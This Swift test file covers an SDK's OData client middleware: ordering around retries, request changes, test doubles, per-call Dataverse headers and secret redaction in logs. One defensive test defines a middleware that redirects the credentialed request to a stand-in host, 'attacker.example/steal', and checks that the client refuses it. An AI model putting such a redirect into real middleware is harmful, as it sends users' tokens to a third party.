import DataverseModel
import Foundation
import MobileSdk
import MobileSdkClient
import MobileSdkTesting
import Synchronization
import Testing

/// The chain between the client and the transport: order, every attempt, changes that reach the wire, answers in
/// the transport's place, the service's host kept, per-call headers and redacted logs.
struct MiddlewareTests {
    /// What the recording middlewares saw, in order.
    final class Seen: Sendable {
        private let lines = Mutex<[String]>([])
        var all: [String] { lines.withLock { $0 } }
        func append(_ line: String) { lines.withLock { $0.append(line) } }
    }

    /// Records what passes, under a name, into a shared list.
    struct Recording: ODataClientMiddleware {
        let name: String
        let seen: Seen

        func intercept(_ request: HTTPRequest, next: (HTTPRequest) async throws -> HTTPResponse) async throws
            -> HTTPResponse
        {
            seen.append("\(name) → \(request.method) \(request[header: "Authorization"] ?? "-")")
            let response = try await next(request)
            seen.append("\(name) ← \(response.statusCode)")
            return response
        }
    }

    static func client(
        _ transport: ScriptedTransport,
        _ middlewares: [any ODataClientMiddleware],
        retryPolicy: RetryPolicy = .none
    ) -> ODataClient {
        var configuration = ODataClient.Configuration(
            serviceRoot: TestClients.dataverseRoot,
            authentication: BearerTokenAuthentication { _ in "SECRET-TOKEN" },
            transport: transport,
            retryPolicy: retryPolicy,
            registry: TestClients.dataverseRegistry
        )
        configuration.middlewares = middlewares
        return ODataClient(configuration)
    }

    @Test func middlewaresRunInOrderAroundEveryAttempt() async throws {
        let seen = Seen()
        let transport = ScriptedTransport(
            .payload("dataverse-error-throttled", status: 503, headers: ["Retry-After": "1"]),
            .payload("dataverse-account")
        )
        let delays = RecordedDelays()
        let client = Self.client(
            transport,
            [Recording(name: "outer", seen: seen), Recording(name: "inner", seen: seen)],
            retryPolicy: delays.policy()
        )
        _ = try await client.retrieve(Account.self, id: IDs.account)
        #expect(
            seen.all == [
                "outer → GET Bearer SECRET-TOKEN", "inner → GET Bearer SECRET-TOKEN", "inner ← 503", "outer ← 503",
                "outer → GET Bearer SECRET-TOKEN", "inner → GET Bearer SECRET-TOKEN", "inner ← 200", "outer ← 200",
            ]
        )
    }

    /// A middleware that changes the request: the transport gets the change.
    struct Tagging: ODataClientMiddleware {
        func intercept(_ request: HTTPRequest, next: (HTTPRequest) async throws -> HTTPResponse) async throws
            -> HTTPResponse
        {
            var request = request
            request[header: "X-Trace"] = "abc"
            return try await next(request)
        }
    }

    /// A test double: answers without the transport.
    struct Canned: ODataClientMiddleware {
        func intercept(_ request: HTTPRequest, next: (HTTPRequest) async throws -> HTTPResponse) async throws
            -> HTTPResponse
        {
            let body = #"{"accountid":"7a4814f9-b0b8-ea11-a812-000d3a122b89","name":"Canned"}"#
            return HTTPResponse(
                statusCode: 200,
                headerFields: ["Content-Type": "application/json"],
                body: Data(body.utf8)
            )
        }
    }

    @Test func changesReachTheTransportAndADoubleCanAnswer() async throws {
        let transport = ScriptedTransport(.payload("dataverse-account"))
        _ = try await Self.client(transport, [Tagging()]).retrieve(Account.self, id: IDs.account)
        #expect(transport.requests.last?[header: "X-Trace"] == "abc")

        let untouched = ScriptedTransport()
        let account = try await Self.client(untouched, [Canned()]).retrieve(Account.self, id: IDs.account)
        #expect(account.name == "Canned")
        #expect(untouched.requests.isEmpty)
    }

    /// A middleware cannot take the request, and its credentials, to another host.
    struct Elsewhere: ODataClientMiddleware {
        func intercept(_ request: HTTPRequest, next: (HTTPRequest) async throws -> HTTPResponse) async throws
            -> HTTPResponse
        {
            var request = request
            request.url = URL(string: "https://attacker.example/steal") ?? request.url
            return try await next(request)
        }
    }

    @Test func theServicesHostIsKept() async throws {
        let transport = ScriptedTransport(.payload("dataverse-account"))
        let error = await #expect(throws: ODataClientError.self) {
            try await Self.client(transport, [Elsewhere()]).retrieve(Account.self, id: IDs.account)
        }
        guard case .foreignHost(let url, _)? = error else {
            Issue.record("expected foreignHost, got \(String(describing: error))")
            return
        }
        #expect(url == "https://attacker.example/steal")
        #expect(transport.requests.isEmpty)
    }

    @Test func perCallHeadersGoOnlyWithTheCallsThatAskForThem() async throws {
        let transport = ScriptedTransport(.payload("dataverse-account"), .payload("dataverse-account"))
        let client = Self.client(transport, [])
        let bypassing = client.adding(.bypassCustomPluginExecution.adding(.detectDuplicates))
        _ = try await bypassing.retrieve(Account.self, id: IDs.account)
        _ = try await client.retrieve(Account.self, id: IDs.account)
        let (first, second) = (transport.requests[0], transport.requests[1])
        #expect(first[header: "MSCRM.BypassCustomPluginExecution"] == "true")
        #expect(first[header: "MSCRM.SuppressDuplicateDetection"] == "false")
        #expect(second[header: "MSCRM.BypassCustomPluginExecution"] == nil)
        #expect(RequestHeaders.bypassBusinessLogic(asynchronous: false).fields.map(\.value) == ["CustomSync"])
        #expect(RequestHeaders.bypassBusinessLogic().fields.map(\.value) == ["CustomSync,CustomAsync"])
    }

    @Test func logsNameTheRequestAndNeverASecret() async throws {
        let lines = Seen()
        let transport = ScriptedTransport(.payload("dataverse-account", headers: ["Set-Cookie": "session=s3cr3t"]))
        let logging = LoggingMiddleware(headers: true) { lines.append($0) }
        _ = try await Self.client(transport, [logging]).retrieve(Account.self, id: IDs.account)
        let log = lines.all.joined(separator: "\n")
        #expect(lines.all.count == 2)
        #expect(log.contains("→ GET https://contoso.crm.dynamics.com/api/data/v9.2/accounts("))
        #expect(log.contains("← 200 GET"))
        #expect(log.contains("Authorization: <redacted>") && log.contains("Set-Cookie: <redacted>"))
        #expect(!log.contains("SECRET-TOKEN") && !log.contains("s3cr3t"))
        #expect(log.contains("OData-Version: 4.0"))
    }
}
